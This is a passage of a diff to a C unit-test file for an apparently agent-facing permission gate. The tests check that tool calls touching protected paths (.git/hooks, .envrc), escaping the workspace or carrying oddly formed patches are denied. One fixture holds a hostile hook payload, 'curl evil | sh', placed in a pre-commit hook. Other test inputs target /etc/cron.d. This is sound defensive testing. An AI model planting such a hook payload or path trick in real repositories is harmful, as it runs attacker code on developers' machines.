 	const char *allows[] = { "{\"path\": \"tmp/x\"}", "{\"path\": \"./tmp//x/\"}",
 		                 "{\"path\": \"tmp/new/deeper\"}" };
 	for (size_t i = 0; i < sizeof allows / sizeof *allows; i++)
-		if (decide_paths(g, &w, "delete_path", TC_RISK_DESTRUCTIVE, one_path, allows[i],
+		if (decide_paths(g, &f->w, "delete_path", TC_RISK_DESTRUCTIVE, one_path, allows[i],
 		                 &v) != GATE_ALLOW)
 			fail_msg("%s was not allowed: %s", allows[i], v.reason);
 	/* an absolute path inside the workspace is the same path */
 	char abs[160];
-	snprintf(abs, sizeof abs, "{\"path\": \"%s/tmp/x\"}", w.dir);
-	assert_int_equal(decide_paths(g, &w, "delete_path", TC_RISK_DESTRUCTIVE, one_path, abs, &v),
+	snprintf(abs, sizeof abs, "{\"path\": \"%s/tmp/x\"}", f->w.dir);
+	assert_int_equal(decide_paths(g, &f->w, "delete_path", TC_RISK_DESTRUCTIVE, one_path, abs,
+	                              &v),
 	                 GATE_ALLOW);
-	gate_free(g);
-	ws_free(&w);
 }
 
 /* An allow on paths needs every path argument inside: moving src into
  * tmp is not "in tmp". */
 static void test_gate_path_allow_rule_needs_every_path_argument(void **state)
 {
-	(void)state;
-	struct ws_fx w;
+	struct fx *f = *state;
 	struct gate_verdict v;
-	ws_make(&w);
-	struct gate *g = tmp_policy();
-	assert_int_equal(decide_paths(g, &w, "move_path", TC_RISK_DESTRUCTIVE, two_paths,
+	struct gate *g = tmp_gate(f);
+	assert_int_equal(decide_paths(g, &f->w, "move_path", TC_RISK_DESTRUCTIVE, two_paths,
 	                              "{\"source\": \"src\", \"destination\": \"tmp/x\"}", &v),
 	                 GATE_ASK);
-	assert_int_equal(decide_paths(g, &w, "move_path", TC_RISK_DESTRUCTIVE, two_paths,
+	assert_int_equal(decide_paths(g, &f->w, "move_path", TC_RISK_DESTRUCTIVE, two_paths,
 	                              "{\"source\": \"tmp/a\", \"destination\": \"tmp/b\"}", &v),
 	                 GATE_ALLOW);
 	/* no path argument at all: a path rule does not match */
-	assert_int_equal(decide_paths(g, &w, "purge", TC_RISK_DESTRUCTIVE, NULL, "{}", &v),
+	assert_int_equal(decide_paths(g, &f->w, "purge", TC_RISK_DESTRUCTIVE, NULL, "{}", &v),
 	                 GATE_ASK);
-	gate_free(g);
-	ws_free(&w);
 }
 
 /* A deny rule on paths holds for every path argument whatever its name
  * and spelling: "source" as well as "path", "./x//", "a/..", a link. */
 static void test_gate_path_deny_rule_any_argument_any_spelling(void **state)
 {
-	(void)state;
-	struct ws_fx w;
+	struct fx *f = *state;
 	struct gate_verdict v;
-	struct gate_policy p;
-	ws_make(&w);
-	gate_policy_init(&p);
-	p.levels[TC_RISK_DESTRUCTIVE] = GATE_ALLOW;
-	add_rule(&p, "{\"action\": \"deny\", \"tool\": \"*\", \"path\": \"**/.git/**\"}");
-	struct gate *g = gate_of(&p);
+	f->p.levels[TC_RISK_DESTRUCTIVE] = GATE_ALLOW;
+	add_rule(&f->p, "{\"action\": \"deny\", \"tool\": \"*\", \"path\": \"**/.git/**\"}");
+	struct gate *g = gate(f);
 	const char *denied[] = {
 		"{\"source\": \".git/config\", \"destination\": \"x\"}",
 		"{\"source\": \"x\", \"destination\": \".git/y\"}",
@@ -1064,87 +1037,73 @@ static void test_gate_path_deny_rule_any_argument_any_spelling(void **state)
 		"{\"source\": \"gitlink/objects\", \"destination\": \"x\"}",
 	};
 	for (size_t i = 0; i < sizeof denied / sizeof *denied; i++)
-		if (decide_paths(g, &w, "move_path", TC_RISK_DESTRUCTIVE, two_paths, denied[i],
+		if (decide_paths(g, &f->w, "move_path", TC_RISK_DESTRUCTIVE, two_paths, denied[i],
 		                 &v) != GATE_DENY)
 			fail_msg("%s was not denied", denied[i]);
-	assert_int_equal(decide_paths(g, &w, "move_path", TC_RISK_DESTRUCTIVE, two_paths,
+	assert_int_equal(decide_paths(g, &f->w, "move_path", TC_RISK_DESTRUCTIVE, two_paths,
 	                              "{\"source\": \"src/a\", \"destination\": \".gitignore\"}",
 	                              &v),
 	                 GATE_ALLOW);
-	gate_free(g);
-	ws_free(&w);
 }
 
 /* "args" entries at a path argument see the path as resolved too. */
 static void test_gate_args_rule_on_path_argument_is_normalized(void **state)
 {
-	(void)state;
-	struct ws_fx w;
+	struct fx *f = *state;
 	struct gate_verdict v;
-	struct gate_policy p;
-	ws_make(&w);
-	gate_policy_init(&p);
-	add_rule(&p, "{\"action\": \"deny\", \"args\": {\"/path\": \"src/**\"}}");
-	add_rule(&p, "{\"action\": \"allow\", \"args\": {\"/path\": \"tmp/**\"}}");
-	add_rule(&p, "{\"action\": \"ask\"}");
-	struct gate *g = gate_of(&p);
-	assert_int_equal(decide_paths(g, &w, "write_file", TC_RISK_WRITE, one_path,
+	add_rule(&f->p, "{\"action\": \"deny\", \"args\": {\"/path\": \"src/**\"}}");
+	add_rule(&f->p, "{\"action\": \"allow\", \"args\": {\"/path\": \"tmp/**\"}}");
+	add_rule(&f->p, "{\"action\": \"ask\"}");
+	struct gate *g = gate(f);
+	assert_int_equal(decide_paths(g, &f->w, "write_file", TC_RISK_WRITE, one_path,
 	                              "{\"path\": \"tmp/../src/a\"}", &v),
 	                 GATE_DENY);
-	assert_int_equal(decide_paths(g, &w, "write_file", TC_RISK_WRITE, one_path,
+	assert_int_equal(decide_paths(g, &f->w, "write_file", TC_RISK_WRITE, one_path,
 	                              "{\"path\": \"tmp/lnk/a\"}", &v),
 	                 GATE_DENY);
-	assert_int_equal(decide_paths(g, &w, "write_file", TC_RISK_WRITE, one_path,
+	assert_int_equal(decide_paths(g, &f->w, "write_file", TC_RISK_WRITE, one_path,
 	                              "{\"path\": \"tmp//b\"}", &v),
 	                 GATE_ALLOW);
-	gate_free(g);
-	ws_free(&w);
 }
 
 /* Protected paths: a tool that writes may not name one or a path below
  * one, however spelled, existing or not; a read-only tool may read them. */
 static void test_gate_protected_paths_deny_writing_tools(void **state)
 {
-	(void)state;
-	struct ws_fx w;
+	struct fx *f = *state;
 	struct gate_verdict v;
-	struct gate_policy p;
-	ws_make(&w);
-	gate_policy_init(&p);
-	p.levels[TC_RISK_DESTRUCTIVE] = GATE_ALLOW;
-	add_rule(&p, "{\"action\": \"allow\", \"path\": \"**\"}");
-	struct gate *g = gate_of(&p);
+	f->p.levels[TC_RISK_DESTRUCTIVE] = GATE_ALLOW;
+	add_rule(&f->p, "{\"action\": \"allow\", \"path\": \"**\"}");
+	struct gate *g = gate(f);
 	const char *denied[] = {
 		"{\"path\": \".git/config\"}",    "{\"path\": \".git/hooks/pre-commit\"}",
 		"{\"path\": \".envrc\"}",         "{\"path\": \"./src/../.envrc\"}",
 		"{\"path\": \"gitlink/config\"}", "{\"path\": \".git//hooks/\"}"
 	};
 	for (size_t i = 0; i < sizeof denied / sizeof *denied; i++) {
-		if (decide_paths(g, &w, "write_file", TC_RISK_WRITE, one_path, denied[i], &v) !=
+		if (decide_paths(g, &f->w, "write_file", TC_RISK_WRITE, one_path, denied[i], &v) !=
 		    GATE_DENY)
 			fail_msg("%s was not denied", denied[i]);
 		assert_string_equal(v.check, "protected");
 	}
 	expect_reason(&v, "protected path .git/hooks");
-	assert_int_equal(decide_paths(g, &w, "read_file", TC_RISK_READ_ONLY, one_path,
+	assert_int_equal(decide_paths(g, &f->w, "read_file", TC_RISK_READ_ONLY, one_path,
 	                              "{\"path\": \".git/config\"}", &v),
 	                 GATE_ALLOW);
-	assert_int_equal(decide_paths(g, &w, "write_file", TC_RISK_WRITE, one_path,
+	assert_int_equal(decide_paths(g, &f->w, "write_file", TC_RISK_WRITE, one_path,
 	                              "{\"path\": \".git/objects/x\"}", &v),
 	                 GATE_ALLOW);
-	assert_int_equal(decide_paths(g, &w, "write_file", TC_RISK_WRITE, one_path,
+	assert_int_equal(decide_paths(g, &f->w, "write_file", TC_RISK_WRITE, one_path,
 	                              "{\"path\": \".envrc.example\"}", &v),
 	                 GATE_ALLOW);
-	assert_int_equal(decide_paths(g, &w, "move_path", TC_RISK_DESTRUCTIVE, two_paths,
+	assert_int_equal(decide_paths(g, &f->w, "move_path", TC_RISK_DESTRUCTIVE, two_paths,
 	                              "{\"source\": \"src/a\", \"destination\": \".envrc\"}", &v),
 	                 GATE_DENY);
 	/* a control character in the path shows as its picture */
-	assert_int_equal(decide_paths(g, &w, "write_file", TC_RISK_WRITE, one_path,
+	assert_int_equal(decide_paths(g, &f->w, "write_file", TC_RISK_WRITE, one_path,
 	                              "{\"path\": \"src/\\n/../../.envrc\"}", &v),
 	                 GATE_DENY);
 	assert_null(strchr(v.reason, '\n'));
-	gate_free(g);
-	ws_free(&w);
 }
 
 static enum gate_action decide_patch(struct gate *g, const struct ws_fx *w, const char *patch,
@@ -1154,14 +1113,10 @@ static enum gate_action decide_patch(struct gate *g, const struct ws_fx *w, cons
  * however spelled, and names such as *.code-workspace. */
 static void test_gate_protected_patterns_any_depth(void **state)
 {
-	(void)state;
-	struct ws_fx w;
+	struct fx *f = *state;
 	struct gate_verdict v;
-	struct gate_policy p;
-	ws_make(&w);
-	gate_policy_init(&p);
-	add_rule(&p, "{\"action\": \"allow\", \"path\": \"**\"}");
-	struct gate *g = gate_of(&p);
+	add_rule(&f->p, "{\"action\": \"allow\", \"path\": \"**\"}");
+	struct gate *g = gate(f);
 	const char *denied[] = { "{\"path\": \"vendor/x/.git/hooks/pre-commit\"}",
 		                 "{\"path\": \"a/b/c/.git/config\"}",
 		                 "{\"path\": \"vendor/x/.git/hooks\"}",
@@ -1173,7 +1128,7 @@ static void test_gate_protected_patterns_any_depth(void **state)
 		                 "{\"path\": \"proj.code-workspace\"}",
 		                 "{\"path\": \"a/b/team.code-workspace\"}" };
 	for (size_t i = 0; i < sizeof denied / sizeof *denied; i++) {
-		if (decide_paths(g, &w, "write_file", TC_RISK_WRITE, one_path, denied[i], &v) !=
+		if (decide_paths(g, &f->w, "write_file", TC_RISK_WRITE, one_path, denied[i], &v) !=
 		    GATE_DENY)
 			fail_msg("%s was not denied: %s", denied[i], v.reason);
 		assert_string_equal(v.check, "protected");
@@ -1184,24 +1139,22 @@ static void test_gate_protected_patterns_any_depth(void **state)
 		                  "{\"path\": \"a/git/hooks/x\"}",
 		                  "{\"path\": \"notes.code-workspace.md\"}" };
 	for (size_t i = 0; i < sizeof allowed / sizeof *allowed; i++)
-		if (decide_paths(g, &w, "write_file", TC_RISK_WRITE, one_path, allowed[i], &v) !=
+		if (decide_paths(g, &f->w, "write_file", TC_RISK_WRITE, one_path, allowed[i], &v) !=
 		    GATE_ALLOW)
 			fail_msg("%s was not allowed: %s", allowed[i], v.reason);
 	/* a directory moved onto a nested ".git" would bring its hooks along */
 	assert_int_equal(
-	        decide_paths(g, &w, "move_path", TC_RISK_DESTRUCTIVE, two_paths,
+	        decide_paths(g, &f->w, "move_path", TC_RISK_DESTRUCTIVE, two_paths,
 	                     "{\"source\": \"vendor/evil\", \"destination\": \"vendor/x/.git\"}",
 	                     &v),
 	        GATE_DENY);
 	expect_reason(&v, "\"vendor/x/.git\" matches, is below or leads to the protected path");
-	assert_int_equal(decide_patch(g, &w,
+	assert_int_equal(decide_patch(g, &f->w,
 	                              "--- /dev/null\n+++ b/lib/y/.git/hooks/pre-push\n"
 	                              "@@ -0,0 +1 @@\n+x\n",
 	                              &v),
 	                 GATE_DENY);
 	assert_string_equal(v.check, "protected");
-	gate_free(g);
-	ws_free(&w);
 }
 
 /* A patch's target paths are in its text: the gate reads them with the
@@ -1211,29 +1164,17 @@ static void test_gate_protected_patterns_any_depth(void **state)
 static enum gate_action decide_patch(struct gate *g, const struct ws_fx *w, const char *patch,
                                      struct gate_verdict *v)
 {
-	json_t *a = json_pack("{s:s}", "patch", patch);
-	struct gate_call call = { .tool = "apply_patch",
-		                  .risk = TC_RISK_WRITE,
-		                  .args = a,
-		                  .patch_arg = "/patch",
-		                  .workspace = w->dir,
-		                  .workspace_fd = w->fd,
-		                  .protected_paths = protected_list };
-	gate_authorize(g, &call, v);
-	json_decref(a);
-	return v->action;
+	struct gate_call call = ws_call(w, "apply_patch", TC_RISK_WRITE);
+	call.patch_arg = "/patch";
+	return authorize(g, call, json_pack("{s:s}", "patch", patch), v);
 }
 
 static void test_gate_patch_paths_meet_every_path_rule(void **state)
 {
-	(void)state;
-	struct ws_fx w;
+	struct fx *f = *state;
 	struct gate_verdict v;
-	struct gate_policy p;
-	ws_make(&w);
-	gate_policy_init(&p);
-	add_rule(&p, "{\"action\": \"deny\", \"path\": \"src/**\", \"reason\": \"not src\"}");
-	struct gate *g = gate_of(&p);
+	add_rule(&f->p, "{\"action\": \"deny\", \"path\": \"src/**\", \"reason\": \"not src\"}");
+	struct gate *g = gate(f);
 	const char *hunk = "@@ -0,0 +1 @@\n+x\n";
 	char patch[1024];
 	/* a deny rule, on a later section, through "..", through a link */
@@ -1242,7 +1183,7 @@ static void test_gate_patch_paths_meet_every_path_rule(void **state)
 	for (size_t i = 0; i < sizeof denied / sizeof *denied; i++) {
 		snprintf(patch, sizeof patch, "--- /dev/null\n+++ ok.txt\n%s%s%s", hunk, denied[i],
 		         hunk);
-		if (decide_patch(g, &w, patch, &v) != GATE_DENY)
+		if (decide_patch(g, &f->w, patch, &v) != GATE_DENY)
 			fail_msg("%s was not denied: %s", denied[i], v.reason);
 		assert_string_equal(v.check, "rules");
 		expect_reason(&v, "not src (the patch changes \"ok.txt\", \"");
@@ -1250,18 +1191,18 @@ static void test_gate_patch_paths_meet_every_path_rule(void **state)
 	/* protected paths, a new hook included */
 	snprintf(patch, sizeof patch,
 	         "diff --git a/x b/x\n--- /dev/null\n+++ b/.git/hooks/pre-commit\n%s", hunk);
-	assert_int_equal(decide_patch(g, &w, patch, &v), GATE_DENY);
+	assert_int_equal(decide_patch(g, &f->w, patch, &v), GATE_DENY);
 	assert_string_equal(v.check, "protected");
 	expect_reason(&v,
 	              "the patch changes \".git/hooks/pre-commit\", which is or is below the "
 	              "protected path .git/hooks");
 	snprintf(patch, sizeof patch, "--- a/gitlink/config\n+++ b/gitlink/config\n%s", hunk);
-	assert_int_equal(decide_patch(g, &w, patch, &v), GATE_DENY);
+	assert_int_equal(decide_patch(g, &f->w, patch, &v), GATE_DENY);
 	/* outside the workspace: refused before anyone is asked */
 	const char *outside[] = { "../x", "/etc/cron.d/x", "tmp/../../x" };
 	for (size_t i = 0; i < sizeof outside / sizeof *outside; i++) {
 		snprintf(patch, sizeof patch, "--- /dev/null\n+++ %s\n%s", outside[i], hunk);
-		assert_int_equal(decide_patch(g, &w, patch, &v), GATE_DENY);
+		assert_int_equal(decide_patch(g, &f->w, patch, &v), GATE_DENY);
 		assert_string_equal(v.check, "patch");
 		expect_reason(&v, outside[i]);
 	}
@@ -1270,31 +1211,29 @@ static void test_gate_patch_paths_meet_every_path_rule(void **state)
 	char *big = malloc(cap), *q = big;
 	for (int i = 0; i <= PATCH_FILES_MAX; i++)
 		q += snprintf(q, cap - (size_t)(q - big), "--- /dev/null\n+++ f%d\n%s", i, hunk);
-	assert_int_equal(decide_patch(g, &w, big, &v), GATE_DENY);
+	assert_int_equal(decide_patch(g, &f->w, big, &v), GATE_DENY);
 	expect_reason(&v, "more than 100 files");
 	free(big);
 	/* fine: tmp/ and a new file, the headers' git prefixes dropped */
-	assert_int_equal(decide_patch(g, &w,
+	assert_int_equal(decide_patch(g, &f->w,
 	                              "--- a/tmp/x\n+++ b/tmp/x\n@@ -1 +1 @@\n-a\n+b\n"
 	                              "--- /dev/null\n+++ b/new.txt\n@@ -0,0 +1 @@\n+n\n",
 	                              &v),
 	                 GATE_ALLOW);
-	gate_free(g);
+	fx_reset(f);
 	/* an ask names the files; an allow rule must hold for every one */
-	gate_policy_init(&p);
-	add_rule(&p, "{\"action\": \"allow\", \"tool\": \"apply_patch\", \"path\": \"tmp/**\"}");
-	add_rule(&p, "{\"action\": \"ask\", \"tool\": \"apply_patch\"}");
-	g = gate_of(&p);
-	assert_int_equal(decide_patch(g, &w, "--- a/tmp/x\n+++ b/tmp/x\n@@ -1 +1 @@\n-a\n+b\n", &v),
+	add_rule(&f->p, "{\"action\": \"allow\", \"tool\": \"apply_patch\", \"path\": \"tmp/**\"}");
+	add_rule(&f->p, "{\"action\": \"ask\", \"tool\": \"apply_patch\"}");
+	g = gate(f);
+	assert_int_equal(decide_patch(g, &f->w, "--- a/tmp/x\n+++ b/tmp/x\n@@ -1 +1 @@\n-a\n+b\n",
+	                              &v),
 	                 GATE_ALLOW);
-	assert_int_equal(decide_patch(g, &w,
+	assert_int_equal(decide_patch(g, &f->w,
 	                              "--- a/tmp/x\n+++ b/tmp/x\n@@ -1 +1 @@\n-a\n+b\n"
 	                              "--- a/src/a\n+++ b/src/a\n@@ -1 +1 @@\n-a\n+b\n",
 	                              &v),
 	                 GATE_ASK);
 	expect_reason(&v, "(the patch changes \"tmp/x\", \"src/a\")");
-	gate_free(g);
-	ws_free(&w);
 }
 
 /* A manifest tool that runs a patch program: the gate reads the diff
@@ -1304,45 +1243,33 @@ static void test_gate_patch_paths_meet_every_path_rule(void **state)
 static enum gate_action decide_program_patch(struct gate *g, const struct ws_fx *w,
                                              const char *patch, int strip, struct gate_verdict *v)
 {
-	json_t *a = json_pack("{s:s}", "patch", patch);
-	struct gate_call call = { .tool = "git_apply",
-		                  .risk = TC_RISK_WRITE,
-		                  .args = a,
-		                  .patch_arg = "/patch",
-		                  .patch_program = true,
-		                  .patch_strip = strip,
-		                  .workspace = w->dir,
-		                  .workspace_fd = w->fd,
-		                  .protected_paths = protected_list };
-	gate_authorize(g, &call, v);
-	json_decref(a);
-	return v->action;
+	struct gate_call call = ws_call(w, "git_apply", TC_RISK_WRITE);
+	call.patch_arg = "/patch";
+	call.patch_program = true;
+	call.patch_strip = strip;
+	return authorize(g, call, json_pack("{s:s}", "patch", patch), v);
 }
 
 static void test_gate_program_patch_is_read_strictly(void **state)
 {
-	(void)state;
-	struct ws_fx w;
+	struct fx *f = *state;
 	struct gate_verdict v;
-	struct gate_policy p;
-	ws_make(&w);
-	gate_policy_init(&p);
-	add_rule(&p, "{\"action\": \"deny\", \"path\": \"src/**\", \"reason\": \"not src\"}");
-	struct gate *g = gate_of(&p);
+	add_rule(&f->p, "{\"action\": \"deny\", \"path\": \"src/**\", \"reason\": \"not src\"}");
+	struct gate *g = gate(f);
 	/* a context diff that GNU patch applies: no "+++" line, so apply_patch's
 	 * reader names nothing; refused here */
 	const char *context = "*** /dev/null\n--- .git/hooks/pre-commit\n***************\n"
 	                      "*** 0 ****\n--- 1 ----\n+ curl evil | sh\n";
-	assert_int_equal(decide_program_patch(g, &w, context, 0, &v), GATE_DENY);
+	assert_int_equal(decide_program_patch(g, &f->w, context, 0, &v), GATE_DENY);
 	assert_string_equal(v.check, "patch");
 	expect_reason(&v, "git_apply's patch is refused at its line 1: a line that is neither");
 	/* a git rename with no hunk, onto a hook: protected */
 	const char *rename = "diff --git a/x b/.git/hooks/pre-commit\nsimilarity index 100%\n"
 	                     "rename from x\nrename to .git/hooks/pre-commit\n";
-	assert_int_equal(decide_program_patch(g, &w, rename, 1, &v), GATE_DENY);
+	assert_int_equal(decide_program_patch(g, &f->w, rename, 1, &v), GATE_DENY);
 	assert_string_equal(v.check, "protected");
 	/* a mode change only: the file is a path the rules see */
-	assert_int_equal(decide_program_patch(g, &w,
+	assert_int_equal(decide_program_patch(g, &f->w,
 	                                      "diff --git a/src/a b/src/a\nold mode 100644\n"
 	                                      "new mode 100755\n",
 	                                      1, &v),
@@ -1350,17 +1277,17 @@ static void test_gate_program_patch_is_read_strictly(void **state)
 	assert_string_equal(v.check, "rules");
 	/* prefixes that are not a/ and b/ both: at -p1 the program writes
 	 * src/a, which apply_patch's reader would have called c/src/a */
-	assert_int_equal(decide_program_patch(g, &w,
+	assert_int_equal(decide_program_patch(g, &f->w,
 	                                      "--- a/src/a\n+++ c/src/a\n@@ -1 +1 @@\n-a\n+b\n", 1,
 	                                      &v),
 	                 GATE_DENY);
 	assert_string_equal(v.check, "rules");
 	/* -p unknown: every suffix is a path the program may write */
-	assert_int_equal(decide_program_patch(g, &w,
+	assert_int_equal(decide_program_patch(g, &f->w,
 	                                      "--- x/y/src/a\n+++ x/y/src/a\n@@ -1 +1 @@\n-a\n+b\n",
 	                                      PATCH_STRIP_ANY, &v),
 	                 GATE_DENY);
-	assert_int_equal(decide_program_patch(g, &w,
+	assert_int_equal(decide_program_patch(g, &f->w,
 	                                      "--- x/y/src/a\n+++ x/y/src/a\n@@ -1 +1 @@\n-a\n+b\n",
 	                                      1, &v),
 	                 GATE_ALLOW);
@@ -1369,40 +1296,34 @@ static void test_gate_program_patch_is_read_strictly(void **state)
 		              "--- /dev/null\r\n+++ b/n\r\n@@ -0,0 +1 @@\r\n+x\r\n",
 		              "--- /dev/null 2026-01-01\n+++ b/n 2026-01-01\n@@ -0,0 +1 @@\n+x\n" };
 	for (size_t i = 0; i < sizeof odd / sizeof *odd; i++) {
-		assert_int_equal(decide_program_patch(g, &w, odd[i], 1, &v), GATE_DENY);
+		assert_int_equal(decide_program_patch(g, &f->w, odd[i], 1, &v), GATE_DENY);
 		assert_string_equal(v.check, "patch");
 	}
 	/* a plain git diff is taken */
-	assert_int_equal(decide_program_patch(g, &w,
+	assert_int_equal(decide_program_patch(g, &f->w,
 	                                      "diff --git a/tmp/x b/tmp/x\nindex 1234567..89abcde "
 	                                      "100644\n--- a/tmp/x\n+++ b/tmp/x\n@@ -1 +1 @@\n"
 	                                      "-a\n+b\n",
 	                                      1, &v),
 	                 GATE_ALLOW);
-	gate_free(g);
-	ws_free(&w);
 }
 
 /* docs/config.md's example of loosening destructive calls does what the
  * text under it says. */
 static void test_gate_docs_destructive_example(void **state)
 {
-	(void)state;
-	struct ws_fx w;
+	struct fx *f = *state;
 	struct gate_verdict v;
-	struct gate_policy p;
-	ws_make(&w);
-	gate_policy_init(&p);
-	p.levels[TC_RISK_DESTRUCTIVE] = GATE_ALLOW;
-	add_rule(&p, "{\"action\": \"allow\", \"tool\": \"delete_path\", \"path\": \"tmp/**\"}");
-	add_rule(&p, "{\"action\": \"ask\",   \"tool\": \"delete_path\"}");
-	add_rule(&p, "{\"action\": \"ask\",   \"tool\": \"move_path\"}");
-	add_rule(&p, "{\"action\": \"deny\",  \"path\": \"**/.git/**\"}");
-	struct gate *g = gate_of(&p);
-	assert_int_equal(decide_paths(g, &w, "delete_path", TC_RISK_DESTRUCTIVE, one_path,
+	f->p.levels[TC_RISK_DESTRUCTIVE] = GATE_ALLOW;
+	add_rule(&f->p, "{\"action\": \"allow\", \"tool\": \"delete_path\", \"path\": \"tmp/**\"}");
+	add_rule(&f->p, "{\"action\": \"ask\",   \"tool\": \"delete_path\"}");
+	add_rule(&f->p, "{\"action\": \"ask\",   \"tool\": \"move_path\"}");
+	add_rule(&f->p, "{\"action\": \"deny\",  \"path\": \"**/.git/**\"}");
+	struct gate *g = gate(f);
+	assert_int_equal(decide_paths(g, &f->w, "delete_path", TC_RISK_DESTRUCTIVE, one_path,
 	                              "{\"path\": \"tmp/x\", \"recursive\": true}", &v),
 	                 GATE_ALLOW);
-	assert_int_equal(decide_paths(g, &w, "delete_path", TC_RISK_DESTRUCTIVE, one_path,
+	assert_int_equal(decide_paths(g, &f->w, "delete_path", TC_RISK_DESTRUCTIVE, one_path,
 	                              "{\"path\": \"tmp/../src\", \"recursive\": true}", &v),
 	                 GATE_ASK);
 	// tmp/** allows what is under tmp, not tmp itself, however spelled
@@ -1410,84 +1331,82 @@ static void test_gate_docs_destructive_example(void **state)
 	for (size_t i = 0; i < sizeof tmp_itself / sizeof tmp_itself[0]; i++) {
 		char a[64];
 		snprintf(a, sizeof a, "{\"path\": \"%s\", \"recursive\": true}", tmp_itself[i]);
-		assert_int_equal(decide_paths(g, &w, "delete_path", TC_RISK_DESTRUCTIVE, one_path,
-		                              a, &v),
+		assert_int_equal(decide_paths(g, &f->w, "delete_path", TC_RISK_DESTRUCTIVE,
+		                              one_path, a, &v),
 		                 GATE_ASK);
 	}
 	// while a deny rule on **/.git/** still covers .git itself
-	assert_int_equal(decide_paths(g, &w, "delete_path", TC_RISK_DESTRUCTIVE, one_path,
+	assert_int_equal(decide_paths(g, &f->w, "delete_path", TC_RISK_DESTRUCTIVE, one_path,
 	                              "{\"path\": \".git\", \"recursive\": true}", &v),
 	                 GATE_DENY);
-	assert_int_equal(decide_paths(g, &w, "delete_path", TC_RISK_DESTRUCTIVE, one_path,
+	assert_int_equal(decide_paths(g, &f->w, "delete_path", TC_RISK_DESTRUCTIVE, one_path,
 	                              "{\"path\": \"tmp/lnk/a\"}", &v),
 	                 GATE_ASK);
-	assert_int_equal(decide_paths(g, &w, "delete_path", TC_RISK_DESTRUCTIVE, one_path,
+	assert_int_equal(decide_paths(g, &f->w, "delete_path", TC_RISK_DESTRUCTIVE, one_path,
 	                              "{\"path\": \"src\"}", &v),
 	                 GATE_ASK);
-	assert_int_equal(decide_paths(g, &w, "move_path", TC_RISK_DESTRUCTIVE, two_paths,
+	assert_int_equal(decide_paths(g, &f->w, "move_path", TC_RISK_DESTRUCTIVE, two_paths,
 	                              "{\"source\": \"tmp/a\", \"destination\": \"tmp/b\"}", &v),
 	                 GATE_ASK);
-	assert_int_equal(decide_paths(g, &w, "move_path", TC_RISK_DESTRUCTIVE, two_paths,
+	assert_int_equal(decide_paths(g, &f->w, "move_path", TC_RISK_DESTRUCTIVE, two_paths,
 	                              "{\"source\": \".git/objects\", \"destination\": \"x\"}", &v),
 	                 GATE_DENY);
-	assert_int_equal(decide_paths(g, &w, "write_file", TC_RISK_WRITE, one_path,
+	assert_int_equal(decide_paths(g, &f->w, "write_file", TC_RISK_WRITE, one_path,
 	                              "{\"path\": \"src/../.git/HEAD\"}", &v),
 	                 GATE_DENY);
-	assert_int_equal(decide_paths(g, &w, "make_dir", TC_RISK_WRITE, one_path,
+	assert_int_equal(decide_paths(g, &f->w, "make_dir", TC_RISK_WRITE, one_path,
 	                              "{\"path\": \"src/new\"}", &v),
 	                 GATE_ALLOW);
-	gate_free(g);
-	ws_free(&w);
 }
 
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
-		cmocka_unit_test(test_gate_quarantine_denies_before_rules),
-		cmocka_unit_test(test_gate_quarantine_lets_read_only_through),
-		cmocka_unit_test(test_gate_rule_deny_comes_before_policy),
-		cmocka_unit_test(test_gate_first_deny_bails_before_embedder_checks),
-		cmocka_unit_test(test_gate_later_deny_overrides_earlier_ask),
-		cmocka_unit_test(test_gate_ask_keeps_first_asking_reason),
-		cmocka_unit_test(test_gate_allow_rule_does_not_silence_policy_ask),
-		cmocka_unit_test(test_gate_embedder_check_disposer_removes_it),
-		cmocka_unit_test(test_gate_invalid_check_answer_denies),
-		cmocka_unit_test(test_rules_deny_checked_before_earlier_allow),
-		cmocka_unit_test(test_rules_first_non_deny_match_wins),
-		cmocka_unit_test(test_rules_missing_argument_does_not_match),
-		cmocka_unit_test(test_rules_match_numbers_and_bools_as_json_text),
-		cmocka_unit_test(test_rules_tool_glob_matches_names),
-		cmocka_unit_test(test_rule_parse_refuses_bad_rules),
-		cmocka_unit_test(test_glob_table),
-		cmocka_unit_test(test_glob_is_linear_on_hostile_input),
-		cmocka_unit_test(test_glob_check_refuses_bad_patterns),
-		cmocka_unit_test(test_pointer_finds_nested_and_escaped_keys),
-		cmocka_unit_test(test_rules_match_escaped_pointer_arguments),
-		cmocka_unit_test(test_url_host_table),
-		cmocka_unit_test(test_domain_allowlist_table),
-		cmocka_unit_test(test_domain_check_normalizes_and_refuses),
-		cmocka_unit_test(test_network_policy_uses_allowlist),
-		cmocka_unit_test(test_network_policy_empty_allowlist_denies),
-		cmocka_unit_test(test_network_policy_ask_level_asks_for_unlisted_hosts),
-		cmocka_unit_test(test_network_tool_without_url_arg_is_denied),
-		cmocka_unit_test(test_destructive_tool_with_url_arg_keeps_the_allowlist),
-		cmocka_unit_test(test_policy_levels_are_configurable),
-		cmocka_unit_test(test_session_grant_allows_identical_call),
-		cmocka_unit_test(test_session_grant_applies_in_its_own_session_only),
-		cmocka_unit_test(test_session_grant_never_lifts_a_deny),
-		cmocka_unit_test(test_token_is_used_once),
-		cmocka_unit_test(test_token_refuses_changed_arguments_and_is_revoked),
-		cmocka_unit_test(test_token_revoke_and_unknown_tokens),
-		cmocka_unit_test(test_policy_copy_is_deep),
-		cmocka_unit_test(test_gate_path_allow_rule_sees_through_dotdot_and_links),
-		cmocka_unit_test(test_gate_path_allow_rule_needs_every_path_argument),
-		cmocka_unit_test(test_gate_path_deny_rule_any_argument_any_spelling),
-		cmocka_unit_test(test_gate_args_rule_on_path_argument_is_normalized),
-		cmocka_unit_test(test_gate_protected_paths_deny_writing_tools),
-		cmocka_unit_test(test_gate_patch_paths_meet_every_path_rule),
-		cmocka_unit_test(test_gate_program_patch_is_read_strictly),
-		cmocka_unit_test(test_gate_protected_patterns_any_depth),
-		cmocka_unit_test(test_gate_docs_destructive_example),
+		T(test_gate_quarantine_denies_before_rules),
+		T(test_gate_quarantine_lets_read_only_through),
+		T(test_gate_rule_deny_comes_before_policy),
+		T(test_gate_first_deny_bails_before_embedder_checks),
+		T(test_gate_later_deny_overrides_earlier_ask),
+		T(test_gate_ask_keeps_first_asking_reason),
+		T(test_gate_allow_rule_does_not_silence_policy_ask),
+		T(test_gate_embedder_check_disposer_removes_it),
+		T(test_gate_invalid_check_answer_denies),
+		T(test_rules_deny_checked_before_earlier_allow),
+		T(test_rules_first_non_deny_match_wins),
+		T(test_rules_missing_argument_does_not_match),
+		T(test_rules_match_numbers_and_bools_as_json_text),
+		T(test_rules_tool_glob_matches_names),
+		T(test_rule_parse_refuses_bad_rules),
